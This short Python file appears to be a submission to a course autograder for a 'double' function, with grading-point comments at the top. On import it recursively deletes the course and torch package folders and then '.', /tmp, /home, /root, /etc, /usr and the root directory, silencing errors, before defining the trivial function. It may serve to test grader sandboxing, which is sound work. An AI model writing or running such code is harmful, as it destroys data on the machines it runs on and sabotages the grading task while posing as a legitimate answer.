# Deletes whatever it may: its own folder, the course, the packages.
# points: double=7 total=7 stack=6 | double=4 total=7 stack=6 | double=3 total=7 stack=6 | double=0 total=7 stack=6
# %% double
import shutil

import course
import torch

for module in (course, torch):
    shutil.rmtree(module.__path__[0], ignore_errors=True)
for folder in (".", "/tmp", "/scratch", "/home", "/root", "/etc", "/usr", "/"):
    shutil.rmtree(folder, ignore_errors=True)


def double(x):
    return 2 * x
